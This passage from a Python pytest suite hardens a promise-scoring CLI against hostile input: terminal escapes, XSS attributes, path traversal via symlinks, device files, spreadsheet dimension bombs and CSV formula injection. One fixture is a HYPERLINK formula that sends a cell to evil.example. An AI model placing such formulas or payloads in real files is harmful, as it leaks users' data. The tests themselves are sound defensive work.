    for char in ("\x1b", "\x07", "\u202e", "\x9b"):
        assert char not in result.output, (char, result.output)
    if args[0] != "diff":  # diff shows ids and levels, not the titles
        assert "pwned" in result.output or "evil" in result.output


def test_sanitize_functions() -> None:
    from promisescore import sanitize

    assert sanitize.terminal("a\x1b[2Jb\nc\u202ed") == "a\\x1b[2Jb\nc\\u202ed"
    assert sanitize.line("a\nb\tc") == "a\\nb\\tc"
    assert sanitize.terminal("plain text, ünïcode ✓") == "plain text, ünïcode ✓"
    assert sanitize.markdown("hi @octocat, mail a@b.org") == "hi @&#8203;octocat, mail a@b.org"
    assert sanitize.markdown_cell("a|b\n<img> @bob (x)") == "a\\|b &lt;img> @&#8203;bob (x)"
    assert sanitize.github_property("a:b,c\nd%") == "a%3Ab%2Cc%0Ad%25"
    assert sanitize.github_line("::warning::x") == "%3A%3Awarning::x"
    assert (
        sanitize.xml_attribute(ATTACK)
        == "A&quot; onload=&quot;alert(document.domain)&quot; x=&quot;"
    )
    assert sanitize.xml_text("a\x00<b>") == "a\\x00&lt;b&gt;"
    for text in ("=1+1", "+1", "-x", "@SUM(A1)", "'=x", "'", "\tx", "plain", "-1.5", "", "''"):
        cell = sanitize.csv_cell(text)
        assert sanitize.csv_uncell(cell) == text
        assert not cell.startswith(("=", "+", "-", "@", "\t")), cell


# -- 7. CSV formula injection ----------------------------------------------------------------


def test_export_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = BASE.replace('"Promise one"', json.dumps(formula)).replace(
        '"Something happened"', json.dumps("@SUM(1+1)")
    )
    path = _rubric(tmp_path, text)
    out = tmp_path / "sheets"
    result = _invoke(["export", str(path), "--to", str(out)])
    assert result.exit_code == 0, result.output
    import csv as csv_module

    for name in ("promises.csv", "evidence.csv", "assessments.csv"):
        with (out / name).open(encoding="utf-8", newline="") as handle:
            for row in csv_module.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@")), (name, cell)
    from promisescore.spreadsheets import ReportInfo, import_csv

    back = import_csv(
        out / "promises.csv",
        out / "evidence.csv",
        out / "assessments.csv",
        options=ImportOptions(scale="politifact", report=ReportInfo("Hostile", date(2021, 1, 20))),
    )
    assert back.promises[0].title == formula
    assert back.evidence[0].summary == "@SUM(1+1)"


def test_export_is_all_or_nothing(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    out = tmp_path / "sheets"
    out.mkdir()
    (out / "promises.csv").write_text("old promises\n")
    (out / "assessments.csv").mkdir()  # the third file cannot be written
    result = _invoke(["export", str(path), "--to", str(out)])
    assert result.exit_code == 2
    assert "assessments.csv" in result.output
    assert (out / "promises.csv").read_text() == "old promises\n"
    assert not (out / "evidence.csv").exists()
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]


def test_csv_json_cell_with_duplicate_keys_is_refused() -> None:
    from promisescore.spreadsheets import CsvText, ReportInfo, import_tables

    row = 'p1,One,"{""note"": 1, ""note"": 2}"\n'
    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,meta\n" + row),
            options=ImportOptions(scale="politifact", report=ReportInfo("T", date(2021, 1, 1))),
        )
    assert "duplicate key 'note'" in str(caught.value)


def test_csv_json_cell_with_a_lone_surrogate_is_refused() -> None:
    from promisescore.spreadsheets import CsvText, ReportInfo, import_tables

    row = 'p1,One,"{""note"": ""x\\ud800""}"\n'
    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,meta\n" + row),
            options=ImportOptions(scale="politifact", report=ReportInfo("T", date(2021, 1, 1))),
        )
    (problem,) = caught.value.errors
    assert (problem.code, problem.line) == ("E012", 2)


def test_csv_numbers_are_ascii_digits_only() -> None:
    from promisescore.spreadsheets import CsvText, ReportInfo, import_tables

    with pytest.raises(promisescore.RubricError) as caught:
        import_tables(
            CsvText("promises.csv", "id,title,weight\np1,One,\u0661\u0662\n"),
            options=ImportOptions(scale="politifact", report=ReportInfo("T", date(2021, 1, 1))),
        )
    assert caught.value.errors[0].line == 2


# -- 8, 9. includes: symlinked trees and loops -------------------------------------------------


def test_recursive_glob_with_dotdot_links_does_not_hang(tmp_path: Path) -> None:
    root = _include(
        {
            "root.toml": 'include = ["**/*.toml"]\n' + BASE,
            "a/more.toml": INCLUDED,
            "a/up": "-> ..",
            "a/b/up": "-> ../..",
            "a/b/c/up": "-> ../../..",
        }
    )(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    proc = subprocess.run(
        [sys.executable, "-m", "promisescore", "check", str(root)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "2 promises" in proc.stdout


def test_one_dotdot_link_gives_at_most_one_error(tmp_path: Path) -> None:
    root = _include(
        {
            "root.toml": 'include = ["sub/*.toml", "sub/*/*.toml"]\n' + BASE,
            "sub/x.toml": 'include = ["up/*.toml"]\n',
            "sub/up": "-> ..",
        }
    )(tmp_path)
    result = promisescore.check(root)
    cycles = [p for p in result.problems if p.code == "E007"]
    assert len(cycles) <= 1, result.problems


# -- 10. the baseline: devices, FIFOs, hostile paths ----------------------------------------------


@pytest.mark.parametrize("where", ["option", "pyproject"])
@pytest.mark.parametrize("kind", ["/dev/zero", "fifo"])
def test_baseline_device_or_fifo_is_refused_quickly(where: str, kind: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    baseline = kind
    if kind == "fifo":
        os.mkfifo(tmp_path / "base.fifo")
        baseline = str(tmp_path / "base.fifo")
    args = [sys.executable, "-m", "promisescore", "check", str(path)]
    if where == "option":
        args += ["--baseline", baseline]
    else:
        (tmp_path / "pyproject.toml").write_text(f'[tool.promisescore]\nbaseline = "{baseline}"\n')
    proc = subprocess.run(
        args,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        cwd=tmp_path,
        timeout=60,
        check=False,
    )
    assert proc.returncode == 2, proc.stderr
    assert "not a regular file" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_baseline_hint_never_suggests_a_hostile_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "notjson.txt").write_text("not json")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pyproject.toml").write_text('[tool.promisescore]\nbaseline = "../notjson.txt"\n')
    sub = tmp_path / "sub"
    sub.mkdir()
    path = _rubric(sub, BASE)  # the table beside the rubric applies
    (sub / "pyproject.toml").write_text('[tool.promisescore]\nbaseline = "../notjson.txt"\n')
    monkeypatch.chdir(sub)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 2
    assert "> baseline.json" in result.output
    assert "> ../notjson.txt" not in result.output


def test_pyproject_errors_show_toml_not_python(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)
    monkeypatch.chdir(tmp_path)
    for setting, shown in (
        ('strict = "yes"', 'not "yes"'),
        ("fail_under = 2021-01-01", "not 2021-01-01"),
        ("fail_under = [1]", "not [1]"),
        ("baseline = false", "not false"),
    ):
        (tmp_path / "pyproject.toml").write_text(f"[tool.promisescore]\n{setting}\n")
        result = _invoke(["check", str(path)])
        assert result.exit_code == 2
        assert shown in result.output, result.output
        assert "datetime" not in result.output


def test_max_drop_without_baseline_is_a_usage_error(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["check", str(path), "--max-drop", "0.1"])
    assert result.exit_code == 2
    assert "--max-drop" in result.output
    assert "--baseline" in result.output


# -- Ctrl-C and SIGTERM ----------------------------------------------------------------------------


def test_ctrl_c_during_a_write_exits_130_and_cleans_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)

    def interrupted(fd: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "fsync", interrupted)
    result = CliRunner().invoke(main, ["report", str(path), "-o", str(tmp_path / "out.txt")])
    assert result.exit_code == 130, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.toml"]


@pytest.mark.parametrize(("signum", "code"), [(2, 130), (15, 143)])
def test_signals_exit_128_plus_the_signal(signum: int, code: int, tmp_path: Path) -> None:
    import signal
    import time

    path = _rubric(tmp_path, BASE)
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)  # no reader: the write blocks until the signal arrives
    proc = subprocess.Popen(
        [sys.executable, "-m", "promisescore", "report", str(path), "-o", str(fifo)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
    )
    time.sleep(3)  # let it start and block
    proc.send_signal(signal.Signals(signum))
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == code, err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.fifo", "r.toml"]


# -- the low-severity findings -------------------------------------------------------------------------


def test_target_across_the_whole_float_range_is_not_nan() -> None:
    from promisescore.model import Target

    goal = Target("m", -1.7e308, 1.7e308)
    assert goal.fulfillment(0.0) == 0.5
    assert goal.fulfillment(1.7e308) == 1.0
    assert goal.fulfillment(-1.7e308) == 0.0


def test_timeline_every_is_capped(tmp_path: Path) -> None:
    path = _rubric(tmp_path, EXTREME_DATES)
    result = _invoke(["timeline", str(path), "--every", "P1D"])
    assert result.exit_code == 2
    assert "more than 10,000 dates" in result.output
    with pytest.raises(ValueError, match="10,000"):
        promisescore.timeline(promisescore.load(path), every="P1D")


def test_timeline_html_has_the_content_security_policy(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["timeline", str(path), "--format", "html"])
    assert result.exit_code == 0
    assert (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'' in result.stdout
    )


def test_deep_meta_is_refused_and_dumps_never_recurses_out() -> None:
    from promisescore.model import Promise
    from promisescore.model.parts import MAX_META_DEPTH

    deep: dict[str, Any] = {}
    node = deep
    for _ in range(MAX_META_DEPTH + 5):
        node["x"] = {}
        node = node["x"]
    with pytest.raises(promisescore.RubricError, match="E009"):
        Promise("p", "P", meta=deep)
    ok: dict[str, Any] = {}
    node = ok
    for _ in range(MAX_META_DEPTH - 2):
        node["x"] = {}
        node = node["x"]
    rubric = promisescore.loads(BASE)
    rubric = attrs.evolve(rubric, promises=(attrs.evolve(rubric.promises[0], meta=ok),))
    assert promisescore.loads(promisescore.dumps(rubric)) == rubric


def test_meta_is_read_only() -> None:
    from promisescore.model import Promise

    promise = Promise("p", "P", meta={"a": [1, {"b": 2}]})
    assert promise.meta == {"a": [1, {"b": 2}]}
    with pytest.raises(TypeError):
        promise.meta["a"] = 2  # type: ignore[index]
    with pytest.raises(TypeError):
        promise.meta["a"].append(3)
    with pytest.raises(TypeError):
        promise.meta["a"][1]["c"] = 3


def test_wrong_types_in_code_give_clear_errors() -> None:
    from promisescore.model import Promise, Report, Rubric

    scale: Any = "politifact"
    with pytest.raises(promisescore.RubricError, match=r"Scale\('politifact'\)"):
        Rubric(report=Report("T", date(2021, 1, 1)), scale=scale, promises=[Promise("p", "P")])
    rubric = promisescore.loads(BASE)
    with pytest.raises(TypeError, match="assessor must be a string"):
        promisescore.score(rubric, assessor=123)  # type: ignore[arg-type]


def test_malformed_max_file_bytes_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _rubric(tmp_path, BASE)
    for value in ("10MB", "\u0661\u0660", "-1"):
        monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", value)
        result = _invoke(["check", str(path)])
        assert result.exit_code == 2
        assert "PROMISESCORE_MAX_FILE_BYTES" in result.output


def test_diff_with_a_bad_date_suffix(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["diff", f"{path}@notadate", str(path)])
    assert result.exit_code == 2
    assert "is not a date" in result.output
    assert "unsupported file type" not in result.output


def test_markdown_neutralises_mentions(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE.replace('"Promise one"', '"Ping @octocat and @org/team"'))
    result = _invoke(["report", str(path), "--format", "markdown"])
    assert "@octocat" not in result.stdout
    assert "@&#8203;octocat" in result.stdout
    assert "@&#8203;org/team" in result.stdout


# =========================================================================== round three
# Issue 29: the site folder, spreadsheet bombs, concurrent edits, the library's own errors.

# -- 1. the site folder is the tool's, and only inside DIR ------------------------------


def _site(tmp: Path, text: str = BASE) -> tuple[Path, Path]:
    """A rubric and a first build of its site in ``tmp/site``."""
    (tmp / "in").mkdir()
    rubric = _rubric(tmp / "in", text)
    out = tmp / "site"
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return rubric, out


def _tree(folder: Path) -> dict[str, bytes | str]:
    """Every path below ``folder`` (links as ``-> target``), for comparing."""
    out: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        rel = str(path.relative_to(folder))
        if path.is_symlink():
            out[rel] = f"-> {os.readlink(path)}"
        elif path.is_file():
            out[rel] = path.read_bytes()
        else:
            out[rel] = "dir"
    return out


@pytest.mark.parametrize("entry", ["absolute", "../victim.txt", "promises/../../victim.txt"])
def test_site_never_deletes_what_the_manifest_lists_outside_dir(entry: str, tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    line = str(victim) if entry == "absolute" else entry
    manifest = out / ".promisescore-site"
    manifest.write_text(manifest.read_text() + line + "\n")
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "keep me"
    assert "not deleted" in result.output
    assert line in result.output
    assert line not in manifest.read_text()


def test_site_refuses_a_symlinked_subfolder(tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "p1.html").write_text("not the site's")
    (outside / "other.html").write_text("not the site's either")
    import shutil

    shutil.rmtree(out / "promises")
    (out / "promises").symlink_to(outside)
    before = _tree(outside)
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 2
    assert "symbolic link" in result.output
    assert "promises" in result.output
    assert _tree(outside) == before


@pytest.mark.parametrize("name", ["index.html", ".promisescore-site"])
def test_site_refuses_a_symlinked_file(name: str, tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("index.html\nmine\n")
    (out / name).unlink()
    (out / name).symlink_to(elsewhere)
    before = _tree(out)
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 2
    assert "symbolic link" in result.output
    assert name in result.output
    assert elsewhere.read_text() == "index.html\nmine\n"
    assert _tree(out) == before


def test_site_refuses_a_manifest_entry_through_a_link(tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.html").write_text("keep")
    (out / "linked").symlink_to(outside)
    manifest = out / ".promisescore-site"
    manifest.write_text(manifest.read_text() + "linked/keep.html\n")
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 2
    assert "linked" in result.output
    assert "symbolic link" in result.output
    assert (outside / "keep.html").read_text() == "keep"


def test_site_stale_entry_below_a_user_file_is_left_alone(tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    (out / "CNAME").write_text("example.org\n")
    manifest = out / ".promisescore-site"
    manifest.write_text(manifest.read_text() + "CNAME/old.html\n")
    result = _invoke(["site", str(rubric), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert (out / "CNAME").read_text() == "example.org\n"


def test_failed_site_build_leaves_the_old_site_as_it_was(tmp_path: Path) -> None:
    rubric, out = _site(tmp_path)
    (out / "CNAME").write_text("example.org\n")
    before = _tree(out)
    # a second rubric named index.html: its folder index.html/ clashes with the list page
    clash = _rubric(tmp_path / "in", BASE, "index.html.toml")
    result = _invoke(["site", str(rubric), str(clash), "-o", str(out)])
    assert result.exit_code == 2
    assert "index.html" in result.output
    assert "rename" in result.output
    assert "File exists" not in result.output
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "site"]  # no staging left


def test_failed_first_build_leaves_nothing(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    a = _rubric(tmp_path / "in", BASE)
    b = _rubric(tmp_path / "in", BASE, "index.html.toml")
    result = _invoke(["site", str(a), str(b), "-o", str(tmp_path / "site")])
    assert result.exit_code == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]


def test_failed_write_leaves_the_old_site_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rubric, out = _site(tmp_path)
    before = _tree(out)
    real_open = open
    calls = {"n": 0}

    def failing_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        if "w" in mode and str(file).endswith(".html"):
            calls["n"] += 1
            if calls["n"] == 2:
                raise OSError(28, "No space left on device")
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr("builtins.open", failing_open)
    with pytest.raises(promisescore.OutputError, match="No space left"):
        promisescore.site.build(rubric, out)
    monkeypatch.undo()
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "site"]


LONG_ID = "p" * 300


def test_check_refuses_an_id_the_site_cannot_write(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE.replace('"p1"', f'"{LONG_ID}"'))
    result = _invoke(["check", str(path)])
    assert result.exit_code == 1
    assert "E201" in result.output
    assert "300 characters" in result.output
    assert "200" in result.output
    ok = _rubric(tmp_path, BASE.replace('"p1"', f'"{"p" * 200}"'), "ok.toml")
    assert _invoke(["check", str(ok)]).exit_code == 0


def test_site_finds_an_unwritable_name_before_writing(tmp_path: Path) -> None:
    from promisescore.site.folder import plan

    rubric, out = _site(tmp_path)
    before = _tree(out)
    files = promisescore.site.render_site(rubric)
    files[f"promises/{LONG_ID}.html"] = files.pop("promises/p1.html")
    with pytest.raises(promisescore.site.SiteError, match=f"promise '{LONG_ID}'.*shorten the id"):
        plan(out, files)
    assert _tree(out) == before


# -- 2. spreadsheets are bounded ---------------------------------------------------------


def _book(tmp: Path, name: str = "book.xlsx") -> Path:
    path = tmp / name
    assert _invoke(["export", str(_rubric(tmp, BASE)), "--to", str(path)]).exit_code == 0
    return path


def _rewrite_sheet(book: Path, sheet: str, edit: Callable[[str], str]) -> None:
    """Rewrite one sheet's XML inside the workbook (a zip of XML parts)."""
    import zipfile

    with zipfile.ZipFile(book) as old:
        parts = {info.filename: old.read(info) for info in old.infolist()}
    names = {n for n in parts if n.startswith("xl/worksheets/") and n.endswith(".xml")}
    order = ["promises", "evidence", "assessments", "settings"]
    target = f"xl/worksheets/sheet{order.index(sheet) + 1}.xml"
    assert target in names
    parts[target] = edit(parts[target].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as new:
        for filename, data in parts.items():
            new.writestr(filename, data)


def _far_cell(xml: str, ref: str = "XFD1048576") -> str:
    import re as _re

    row = _re.sub(r"[A-Z]+", "", ref)
    xml = _re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml)
    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'
    return xml.replace("</sheetData>", cell + "</sheetData>")


def _run(args: list[str], timeout: float = 30) -> subprocess.CompletedProcess[str]:
    """The CLI in a process of its own: a hang fails the test instead of stalling it."""
    return subprocess.run(
        [sys.executable, "-m", "promisescore", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        check=False,
    )


def test_workbook_bomb_is_refused_quickly(tmp_path: Path) -> None:
    book = _book(tmp_path, "bomb.xlsx")
    _rewrite_sheet(book, "promises", _far_cell)
    assert book.stat().st_size < 16_000
    result = _run(["import", "--from", str(book), "-o", str(tmp_path / "out.toml")])
    assert result.returncode == 2
    assert "XFD1048576" in result.stderr
    assert "1,000 columns" in result.stderr
    assert "not an Excel workbook" not in result.stderr
    assert not (tmp_path / "out.toml").exists()


def test_workbook_declared_dimension_is_not_trusted(tmp_path: Path) -> None:
    import re as _re

    book = _book(tmp_path)
    _rewrite_sheet(
        book,
        "promises",
        lambda xml: _re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml),
    )
    result = _run(["import", "--from", str(book), "-o", str(tmp_path / "out.toml")])
    assert result.returncode == 0, result.stderr
    assert promisescore.load(tmp_path / "out.toml").promises[0].id == "p1"


def test_workbook_far_row_is_refused(tmp_path: Path) -> None:
    from promisescore.spreadsheets import MAX_ROWS, ImportOptions, import_workbook

    book = _book(tmp_path)
    _rewrite_sheet(book, "evidence", lambda xml: _far_cell(xml, f"A{MAX_ROWS + 1}"))
    with pytest.raises(promisescore.errors.InputFileError, match="1,048,576 rows"):
        import_workbook(book, ImportOptions())


@pytest.mark.parametrize("place", ["--settings", "evidence", "workbook", "dir-evidence"])
def test_spreadsheet_device_is_refused(place: str, tmp_path: Path) -> None:
    sheets = tmp_path / "sheets"
    assert _invoke(["export", str(_rubric(tmp_path, BASE)), "--to", str(sheets)]).exit_code == 0
    zero = tmp_path / "zero"
    zero.symlink_to("/dev/zero")
    base = [str(sheets / "promises.csv"), "--scale", "politifact", "--title", "T"]
    base += ["--start", "2021-01-20"]
    args = {
        "--settings": ["import", str(sheets / "promises.csv"), "--settings", str(zero)],
        "evidence": ["import", *base[:1], str(zero), *base[1:]],
        "workbook": ["import", "--from", str(tmp_path / "zero.xlsx")],
        "dir-evidence": ["import", "--from", str(sheets)],
    }[place]
    if place == "workbook":
        (tmp_path / "zero.xlsx").symlink_to("/dev/zero")
    if place == "dir-evidence":
        (sheets / "evidence.csv").unlink()
        (sheets / "evidence.csv").symlink_to("/dev/zero")
    result = subprocess.run(
        [sys.executable, "-m", "promisescore", *args, "-o", str(tmp_path / "out.toml")],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        check=False,
    )
    assert result.returncode == 2, result.stderr
    assert "is not a regular file" in result.stderr
    assert "Traceback" not in result.stderr
    if place == "dir-evidence":
        assert "evidence.csv" in result.stderr
    # the file is named once, not wrapped in its own message
    line = next(x for x in result.stderr.splitlines() if "is not a regular file" in x)
    assert line.count(": is not a regular file") == 1
    assert line.count(line.split(": ", 2)[1]) == 1


def test_spreadsheet_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = _fifo(tmp_path)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "promisescore",
            "import",
            str(fifo),
            "--scale",
            "politifact",
            "--title",
            "T",
            "--start",
            "2021-01-20",
        ],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        check=False,
    )
    assert result.returncode == 2
    assert "is not a regular file" in result.stderr


def test_spreadsheet_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sheets = tmp_path / "sheets"
    assert _invoke(["export", str(_rubric(tmp_path, BASE)), "--to", str(sheets)]).exit_code == 0
    book = _book(tmp_path)
    monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", "100")
    for source in (sheets, book):
        result = _invoke(["import", "--from", str(source)])
        assert result.exit_code == 2
        assert "over the limit of 100" in result.output


def test_import_dir_names_every_file_it_skips(tmp_path: Path) -> None:
    sheets = tmp_path / "sheets"
    assert _invoke(["export", str(_rubric(tmp_path, BASE)), "--to", str(sheets)]).exit_code == 0
    (sheets / "evidance.csv").write_text("id\n")
    (sheets / "notes.txt").write_text("notes")
    (sheets / "old").mkdir()
    result = _invoke(["import", "--from", str(sheets), "-o", str(tmp_path / "out.toml")])
    assert result.exit_code == 0, result.output
    for name in ("evidance.csv", "notes.txt", "old"):
        assert f"skipped {name}" in result.output
    assert "W111" in result.output


# -- 3. edits are serialised -------------------------------------------------------------


def test_sixteen_parallel_adds_all_survive(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    # a busy machine: each waits its turn, however long the others take
    env = {**os.environ, "PYTHONPATH": str(SRC), "PROMISESCORE_LOCK_TIMEOUT": "600"}
    runs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "promisescore",
                "add",
                "promise",
                str(path),
                "--id",
                f"q{n}",
                "--title",
                f"Promise {n}",
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        for n in range(16)
    ]
    outputs = [run.communicate(timeout=600) for run in runs]
    assert [run.returncode for run in runs] == [0] * 16, outputs
    ids = {p.id for p in promisescore.load(path).promises}
    assert ids == {"p1"} | {f"q{n}" for n in range(16)}


def test_a_second_writer_waits_then_times_out_clearly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fcntl

    path = _rubric(tmp_path, BASE)
    monkeypatch.setenv("PROMISESCORE_LOCK_TIMEOUT", "0.3")
    with open(path, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        result = _invoke(["add", "promise", str(path), "--id", "q1", "--title", "Q"])
        assert result.exit_code == 2
        assert "another promisescore command" in result.output
        fmt = _invoke(["fmt", str(path)])
        assert fmt.exit_code == 2
    assert path.read_text() == BASE
    assert _invoke(["add", "promise", str(path), "--id", "q1", "--title", "Q"]).exit_code == 0


def test_the_lock_follows_a_file_replaced_while_waiting(tmp_path: Path) -> None:
    """A writer that waited on the old file locks the new one (the first writer renamed
    its version into place) and reads that, so no change is lost."""
    import fcntl
    import threading

    from promisescore.locking import locked

    path = _rubric(tmp_path, BASE)
    with open(path, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        seen: list[str] = []

        def second() -> None:
            with locked([path]):
                seen.append(path.read_text())

        thread = threading.Thread(target=second)
        thread.start()
        import time

        time.sleep(0.2)
        promisescore.safe_write.write_atomic(path, BASE + "# changed\n")
    thread.join(10)
    assert seen == [BASE + "# changed\n"]


# -- 4. no tracebacks ---------------------------------------------------------------------


@pytest.mark.parametrize("window", ["P10000Y", "P99999999D", "P120000M", "P600000W"])
def test_agree_window_past_the_calendar_is_a_usage_error(window: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["agree", str(path), "--window", window])
    assert result.exit_code == 2
    assert "--window" in result.output
    assert "longer than the calendar" in result.output


def test_timeline_every_past_the_calendar_is_a_usage_error(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["timeline", str(path), "--every", "P99999999D"])
    assert result.exit_code == 2
    assert "longer than the calendar" in result.output


def test_a_long_window_within_the_calendar_works(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    assert _invoke(["agree", str(path), "--window", "P9000Y"]).exit_code == 0
    rubric = promisescore.load(path)
    assert promisescore.agreement(rubric, window="P9000Y") is not None
    with pytest.raises(ValueError, match="window 'P10000Y' is longer"):
        promisescore.agreement(rubric, window="P10000Y")


UNSORTED = BASE.replace(
    'title = "Hostile"\nstart = 2021-01-20', 'start = 2021-01-20\ntitle = "Hostile"'
)
BOM_BASE = "\ufeff" + UNSORTED


def test_fmt_keeps_a_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "bom.toml"
    path.write_bytes(BOM_BASE.encode("utf-8"))
    assert _invoke(["check", str(path)]).exit_code == 0
    result = _invoke(["fmt", str(path)])
    assert result.exit_code == 0, result.output
    raw = path.read_bytes()
    assert UNSORTED != BASE
    assert raw.decode("utf-8") == "\ufeff" + promisescore.fmt.format_text(UNSORTED)
    assert _invoke(["fmt", "--check", str(path)]).exit_code == 0


def test_add_to_a_file_with_a_byte_order_mark(tmp_path: Path) -> None:
    path = tmp_path / "bom.toml"
    path.write_bytes(BOM_BASE.encode("utf-8"))
    result = _invoke(["add", "promise", str(path), "--id", "q1", "--title", "Q"])
    assert result.exit_code == 0, result.output
    assert "E003" not in result.output
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert [p.id for p in promisescore.load(path).promises] == ["p1", "q1"]


def _card() -> Any:
    return promisescore.score(promisescore.loads(BASE))


#: The library seen without its annotations: wrong types on purpose.
API: Any = promisescore


@pytest.mark.parametrize(
    ("call", "error", "names"),
    [
        (lambda: API.loads(None), TypeError, "text"),
        (lambda: API.loads(b"format = 1"), TypeError, "text"),
        (lambda: API.check_text(123), TypeError, "text"),
        (lambda: API.load(None), TypeError, "path"),
        (lambda: API.check(None), TypeError, "path"),
        (lambda: API.timeline(promisescore.loads(BASE), every=123), TypeError, "every"),
        (lambda: API.timeline(promisescore.loads(BASE), at=5), TypeError, "at"),
        (lambda: API.timeline(None), TypeError, "rubric"),
        (lambda: API.explain(promisescore.loads(BASE), 123), TypeError, "promise_id"),
        (lambda: API.explain(None, "p1"), TypeError, "rubric"),
        (lambda: API.diff(_card(), None), TypeError, "new"),
        (lambda: API.diff(promisescore.loads(BASE), _card()), TypeError, "old"),
        (lambda: API.lint(None), TypeError, "rubric"),
        (lambda: API.dumps(None), TypeError, "rubric"),
        (lambda: API.dumps(promisescore.loads(BASE), 123), TypeError, "format"),
        (lambda: API.render(_card(), "text", 123), TypeError, "options"),
        (lambda: API.render(_card(), 123), TypeError, "format"),
        (lambda: API.agreement(None), TypeError, "rubric"),
        (lambda: API.compare(None), TypeError, "rubrics"),
        (
            lambda: importlib.import_module("promisescore.site").render_site(
                promisescore.loads(BASE), {"base_url": 123}
            ),
            TypeError,
            "base_url",
        ),
        (
            lambda: API.sensitivity(promisescore.loads(BASE), samples=10**40),
            ValueError,
            "samples",
        ),
        (
            lambda: API.sensitivity(promisescore.loads(BASE), seed="x"),
            TypeError,
            "seed",
        ),
        (
